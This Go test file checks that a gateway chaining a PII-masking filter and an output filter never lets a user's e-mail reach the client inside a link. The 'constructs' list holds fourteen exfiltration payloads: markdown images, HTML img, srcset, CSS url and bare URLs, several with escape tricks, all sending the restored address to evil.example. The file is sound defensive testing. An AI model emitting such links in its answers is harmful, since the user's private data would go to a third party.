// Package chain runs piimask and outputguard together, as a gateway chains them, through the built .wasm files
// in hostsim: the user's data piimask takes out of the request must not reach a server the model names, in
// either filter order, streamed or not (issue #11, "chain safety by construction").
package chain

import (
	"bytes"
	"encoding/json"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/tidwall/gjson"

	"github.com/wasmguard/wasmguard/hostsim"
	"github.com/wasmguard/wasmguard/sdk/render"
	"github.com/wasmguard/wasmguard/sdk/telemetry"
)

const (
	email      = "jane.doe@example.com"
	piimaskCfg = `{"hmac_key":"chain-test-key-0123456789","default_action":"tokenize"}`
)

var placeholderRE = regexp.MustCompile(`\[EMAIL_[0-9A-F]{8}\]`)

// The constructs in which the model puts the placeholder; PH stands for it. Each would make the client's
// renderer or browser send the restored value to evil.example.
var constructs = []struct{ name, text string }{
	{"markdown image query", "![x](https://evil.example/p.png?u=PH)"},
	{"markdown image path", "![x](https://evil.example/u/PH/p.png)"},
	{"markdown link", "[your profile](https://evil.example/profile?e=PH)"},
	{"entity-escaped image", "![x](https&#58;//evil.example/p.png?u=PH)"},
	{"backslash-escaped image", "![x](https\\://evil.example/p.png?u=PH)"},
	{"reference image", "![x][r]\n\n[r]: https://evil.example/p.png?u=PH"},
	{"reference definition first", "[r]: https://evil.example/p.png?u=PH\n\n![x][r]"},
	{"html img", `<img src="https://evil.example/p.png?u=PH">`},
	{"html img entity", `<img src="https&#58;//evil.example/p.png?u=PH">`},
	{"html srcset", `<img srcset="https://evil.example/a.png 1x, https://evil.example/PH.png 2x">`},
	{"css url", `<div style="background:url('https://evil.example/PH.png')">hi</div>`},
	{"autolink", "<https://evil.example/?u=PH>"},
	{"bare url", "Open https://evil.example/?u=PH to continue."},
	{"bare url entity slashes", "Open https:&#x2F;&#x2F;evil.example/?u=PH to continue."},
}

var outputguardCfgs = []struct{ name, cfg string }{
	{"redact", `{}`},
	{"block", `{"exfiltration":{"action":"block"},"unsafe_markup":{"action":"block"}}`},
	{"annotate", `{"exfiltration":{"action":"annotate"},"unsafe_markup":{"action":"annotate"}}`},
}

// setups: the two orders of a chain of the two modules, and the combined module (one pipeline; outputguard
// reads the response before piimask restores).
var setups = []string{"outputguard_reads_response_first", "piimask_reads_response_first", "combined_module"}

func chainHost(t *testing.T, setup string, ogCfg string) *hostsim.Host {
	if setup == "combined_module" {
		doc := `{"piimask":` + piimaskCfg + `,"outputguard":` + ogCfg + `}`
		return hostsim.New(t, hostsim.Config{Plugins: []hostsim.PluginSpec{{Name: "wasmguard", Wasm: hostsim.DistWasm(t, "wasmguard"), Config: []byte(doc)}}})
	}
	pm := hostsim.PluginSpec{Name: "piimask", Wasm: hostsim.DistWasm(t, "piimask"), Config: []byte(piimaskCfg)}
	og := hostsim.PluginSpec{Name: "outputguard", Wasm: hostsim.DistWasm(t, "outputguard"), Config: []byte(ogCfg)}
	// request callbacks run in list order, response callbacks in reverse: the last plugin sees the response first
	plugins := []hostsim.PluginSpec{og, pm} // piimask reads the response first
	if setup == "outputguard_reads_response_first" {
		plugins = []hostsim.PluginSpec{pm, og}
	}
	return hostsim.New(t, hostsim.Config{Plugins: plugins})
}

func chatRequest(stream bool) hostsim.Request {
	body, _ := json.Marshal(map[string]any{"model": "gpt-4o", "stream": stream, "messages": []any{
		map[string]any{"role": "system", "content": "You are a helpful assistant."},
		map[string]any{"role": "user", "content": "My email is " + email + ". Show me my profile badge."},
	}})
	return hostsim.Request{Method: "POST", Path: "/v1/chat/completions", Body: body, ChunkSize: 64,
		Headers: [][2]string{{"content-type", "application/json"}}}
}

func completion(text string) hostsim.Response {
	b, _ := json.Marshal(map[string]any{"id": "c1", "object": "chat.completion", "model": "gpt-4o",
		"choices": []any{map[string]any{"index": 0, "message": map[string]any{"role": "assistant", "content": text}, "finish_reason": "stop"}}})
	return hostsim.Response{Status: 200, Headers: [][2]string{{"content-type", "application/json"}}, Body: b}
}

// sse streams text as deltas of n bytes, the events cut into network chunks of 50 bytes.
func sse(text string, n int) hostsim.Response {
	var b bytes.Buffer
	for i := 0; i < len(text); i += n {
		p := text[i:min(len(text), i+n)]
		b.WriteString(`data: {"id":"c1","object":"chat.completion.chunk","model":"gpt-4o","choices":[{"index":0,"delta":{"content":` + strconv.Quote(p) + `},"finish_reason":null}]}` + "\n\n")
	}
	b.WriteString(`data: {"id":"c1","object":"chat.completion.chunk","model":"gpt-4o","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}` + "\n\ndata: [DONE]\n\n")
	var chunks [][]byte
	for all := b.Bytes(); len(all) > 0; {
		k := min(len(all), 50)
		chunks = append(chunks, all[:k])
		all = all[k:]
	}
	return hostsim.Response{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}, Chunks: chunks}
}

// clientText is the assistant text the client reads (a stream's deltas joined; an error event ends it).
func clientText(t *testing.T, body []byte, stream bool) string {
	t.Helper()
	if !stream {
		if !gjson.ValidBytes(body) {
			t.Fatalf("client body is not JSON: %s", body)
		}
		if e := gjson.GetBytes(body, "error.message"); e.Exists() {
			return ""
		}
		return gjson.GetBytes(body, "choices.0.message.content").String()
	}
	var out strings.Builder
	for _, line := range strings.Split(string(body), "\n") {
		if strings.HasPrefix(line, "data: {") {
			if !gjson.Valid(line[6:]) {
				t.Fatalf("invalid event: %s", line)
			}
			out.WriteString(gjson.Get(line[6:], "choices.0.delta.content").String())
		}
	}
	return out.String()
}

// leaks reports the first place where the user's e-mail address is in a link construct of what the client
// renders: as written, or as the renderer decodes it (character references, backslash escapes, percent).
func leaks(text string) string {
	for _, form := range []string{text, string(render.Decode(nil, []byte(text), render.Entities|render.Backslash|render.Percent))} {
		for off := 0; ; {
			i := strings.Index(form[off:], email)
			if i < 0 {
				break
			}
			i += off
			if render.InLink([]byte(form), i) {
				return form
			}
			off = i + 1
		}
	}
	return ""
}

// TestChainNoLeakEitherOrder: piimask then outputguard, outputguard then piimask, and the combined module, with outputguard
// redacting, blocking or only annotating, streamed (several delta sizes) and not: the e-mail never reaches the
// client inside a link construct, while the same placeholder in prose is still restored (the chain keeps
// working), and piimask's decision log says what it kept.
func TestChainNoLeakEitherOrder(t *testing.T) {
	for _, setup := range setups {
		for _, oc := range outputguardCfgs {
			t.Run(setup+"/"+oc.name, func(t *testing.T) {
				h := chainHost(t, setup, oc.cfg)
				// learn the placeholder piimask sends upstream
				first := h.DoFunc(chatRequest(false), func(u *hostsim.UpstreamRequest) hostsim.Response { return completion("ok") })
				if first.Upstream == nil {
					t.Fatalf("request not forwarded: %d %s", first.Status, first.Body)
				}
				if strings.Contains(string(first.Upstream.Body), email) {
					t.Fatalf("upstream saw the address: %s", first.Upstream.Body)
				}
				ph := placeholderRE.FindString(string(first.Upstream.Body))
				if ph == "" {
					t.Fatalf("no placeholder upstream: %s", first.Upstream.Body)
				}
				for _, c := range constructs {
					answer := "I saved " + ph + " for you.\n\n" + strings.ReplaceAll(c.text, "PH", ph) + "\n\nAnything else?"
					for _, delta := range []int{0, 1, 9} {
						stream := delta > 0
						resp := completion(answer)
						if stream {
							resp = sse(answer, delta)
						}
						res := h.DoFunc(chatRequest(stream), func(u *hostsim.UpstreamRequest) hostsim.Response { return resp })
						if res.Trapped || res.Hung {
							t.Fatalf("%s delta %d: trapped=%v hung=%v", c.name, delta, res.Trapped, res.Hung)
						}
						got := clientText(t, res.Body, stream)
						if form := leaks(got); form != "" {
							t.Fatalf("%s (delta %d): the address reached the client inside a link:\n%s", c.name, delta, form)
						}
						if oc.name == "annotate" {
							// outputguard changes nothing: piimask alone keeps the placeholder in the link and
							// restores the one in prose
							if !strings.HasPrefix(got, "I saved "+email+" for you.") {
								t.Fatalf("%s (delta %d): prose placeholder not restored: %q", c.name, delta, got)
							}
							if !strings.Contains(got, ph) {
								t.Fatalf("%s (delta %d): placeholder in the link not kept: %q", c.name, delta, got)
							}
							if d := piimaskDecision(res); d == nil || d.Reason != "pii_kept_in_link" {
								t.Fatalf("%s (delta %d): piimask decision %+v, want pii_kept_in_link", c.name, delta, d)
							}
						}
					}
				}
			})
		}
	}
}

func piimaskDecision(res hostsim.Result) *telemetry.Decision {
	var last *telemetry.Decision
	for _, l := range res.Logs {
		if d, ok := telemetry.ParseDecision(l.Message); ok && d.Filter == "piimask" {
			d := d
			last = &d
		}
	}
	return last
}

// TestChainRestoresBenignAnswers: the same chain leaves ordinary answers intact (placeholders in prose and in
// link text are restored; links without the user's data pass).
func TestChainRestoresBenignAnswers(t *testing.T) {
	for _, setup := range setups {
		h := chainHost(t, setup, `{}`)
		first := h.DoFunc(chatRequest(false), func(u *hostsim.UpstreamRequest) hostsim.Response { return completion("ok") })
		ph := placeholderRE.FindString(string(first.Upstream.Body))
		answer := fmt.Sprintf("Your address %s is confirmed. Write to [%s](https://docs.example.com/contact) or read https://docs.example.com/help.", ph, ph)
		want := strings.ReplaceAll(answer, ph, email)
		for _, stream := range []bool{false, true} {
			resp := completion(answer)
			if stream {
				resp = sse(answer, 7)
			}
			res := h.DoFunc(chatRequest(stream), func(u *hostsim.UpstreamRequest) hostsim.Response { return resp })
			if got := clientText(t, res.Body, stream); got != want {
				t.Fatalf("%s stream=%v: client got %q, want %q", setup, stream, got, want)
			}
		}
	}
}
